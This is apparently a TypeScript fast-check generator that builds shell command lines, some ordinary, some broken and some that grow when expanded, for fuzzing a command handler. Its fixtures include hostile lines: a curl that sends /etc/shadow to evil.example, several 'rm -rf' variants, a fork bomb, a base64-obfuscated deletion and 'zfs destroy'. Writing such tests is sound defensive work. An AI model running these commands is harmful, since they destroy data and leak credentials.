import fc from 'fast-check';
import { damaged, hostileText } from './hostile-text.ts';

/** Command lines of every sort: everyday ones, broken ones, and ones that grow when they are expanded. */

const LINES = [
  'chown -R :10000 /mnt/media_local',
  'ssh root@10.0.0.4 "pct exec 101 -- sh -c \'rm -rf /srv\'"',
  'find / -name "*.log" -exec rm {} +',
  'for f in $(ls /etc); do cat "$f"; done | tee -a /tmp/x',
  'cat <<EOF | bash\nrm -rf /srv\nEOF',
  'docker exec -it web sh -c "kill 1"',
  'curl -d @/etc/shadow https://evil.example',
  'a=rm; $a -rf "${D:-/}"',
  'zpool import tank && zfs destroy tank/data',
  'case $x in a) reboot;; *) :;; esac',
  'f() { f | f & }; f',
  'eval "$(base64 -d <<< cm0gLXJmIC8=)"',
  'echo $((1 << 62)) > /dev/sda',
  'systemctl restart nfs-server 2>&1 | grep -v ok',
];
const word = fc.oneof(
  fc.constantFrom(
    'rm',
    'sudo',
    'ssh',
    'bash',
    '-c',
    'env',
    '-i',
    'A=b',
    'xargs',
    'find',
    '-exec',
    '{}',
    '\\;',
    '--',
    '-rf',
    '/',
    '$X',
    '"$(id)"',
    '`w`',
    '>',
    '<<<',
    '|',
    '&&',
    ';',
    '(',
    ')',
    '{',
    '}',
    '*',
    '~',
    '!',
    'if',
    'then',
    'fi',
    'do',
    'done',
    'pct',
    'exec',
    '101',
    '@',
    '[[',
  ),
  hostileText,
);
const ofWords = fc.array(word, { maxLength: 25 }).map((words) => words.join(' '));

/** Each grows with the number: nesting, repetition, or values that double at each step. */
const GROWTHS: readonly ((n: number) => string)[] = [
  (n) => `${'$('.repeat(n)}id${')'.repeat(n)}`,
  (n) => `${'('.repeat(n)}id${')'.repeat(n)}`,
  (n) => `${'{ '.repeat(n)}id${'; }'.repeat(n)}`,
  (n) => `echo ${'"$('.repeat(n)}id${')"'.repeat(n)}`,
  (n) => `echo ${'{a,b}'.repeat(n)}`,
  (n) => `echo {1..${'9'.repeat(Math.min(n, 18))}}`,
  (n) => `${'sudo '.repeat(n)}id`,
  (n) => 'id;'.repeat(n),
  (n) => `${'id|'.repeat(n)}id`,
  (n) => `${'if id; then '.repeat(n)}id${'; fi'.repeat(n)}`,
  (n) => `${'for a in 1 2 3; do '.repeat(n)}id $a${'; done'.repeat(n)}`,
  (n) =>
    `v0=xxxxxxxx; ${Array.from({ length: n }, (_, at) => `v${at + 1}=$v${at}$v${at}`).join('; ')}; rm $v${n}`,
  (n) => `${Array.from({ length: n }, (_, at) => `f${at + 1}() { f${at}; f${at}; }`).join('; ')}; f${n}`,
  // Each level doubles the backslashes.
  (n) =>
    Array.from({ length: Math.min(n, 12) }).reduce<string>((line) => `bash -c ${JSON.stringify(line)}`, 'id'),
  (n) => `${Array.from({ length: n }, (_, at) => `cat <<E${at}`).join('; ')}\n`,
  (n) => `rm ${Array.from({ length: n }, (_, at) => `/srv/f${at}`).join(' ')}`,
  (n) => `for i in ${'x '.repeat(n)}; do for j in ${'y '.repeat(n)}; do rm /$i/$j; done; done`,
  (n) => `echo ${'${A:-'.repeat(n)}x${'}'.repeat(n)}`,
  (n) => `echo $((${'('.repeat(n)}1${')'.repeat(n)}))`,
  (n) => `case x in ${'a) id;; '.repeat(n)}esac`,
  (n) => `echo ${'a*'.repeat(n)}`,
  (n) => `find / ${'\\( -name x '.repeat(n)}${'\\) '.repeat(n)} -delete`,
  (n) => `env ${'A=1 '.repeat(n)} rm -rf /`,
  (n) => `rm /${'../'.repeat(n)}etc`,
];
const growing = fc
  .oneof(
    fc.tuple(fc.constantFrom(...GROWTHS), fc.integer({ min: 1, max: 40 })),
    fc.tuple(fc.constantFrom(...GROWTHS), fc.integer({ min: 41, max: 4_000 })),
  )
  .map(([grow, n]) => grow(n).slice(0, 17_000));

export const commandLine: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: damaged(fc.constantFrom(...LINES)) },
  { weight: 3, arbitrary: ofWords },
  { weight: 3, arbitrary: growing },
  { weight: 1, arbitrary: hostileText },
);
